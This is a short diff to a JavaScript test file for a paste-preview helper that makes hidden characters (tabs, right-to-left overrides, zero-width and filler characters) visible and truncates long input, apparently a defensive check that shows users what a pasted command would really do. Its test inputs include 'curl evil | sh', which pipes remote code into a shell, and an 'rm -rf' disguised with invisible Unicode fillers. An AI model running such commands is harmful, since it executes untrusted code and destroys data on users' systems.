@@ -36,6 +36,7 @@ test('control characters are taken out, and a carriage return is a line break', 
 test('what a paste would do is seen', () => {
   expect(preview('curl evil | sh\n')).toBe('curl evil | sh⏎');
   expect(preview('a\tb\u202ec\u200b')).toBe('a⇥b‹U+202E›c‹U+200B›');
+  expect(preview('rm\u3164-rf\u2800')).toBe('rm‹U+3164›-rf‹U+2800›');
   expect(preview('x'.repeat(500))).toBe(`${'x'.repeat(160)}…`);
   expect(copyWords('a')).toBe('one character');
   expect(copyWords('😀b')).toBe('2 characters');
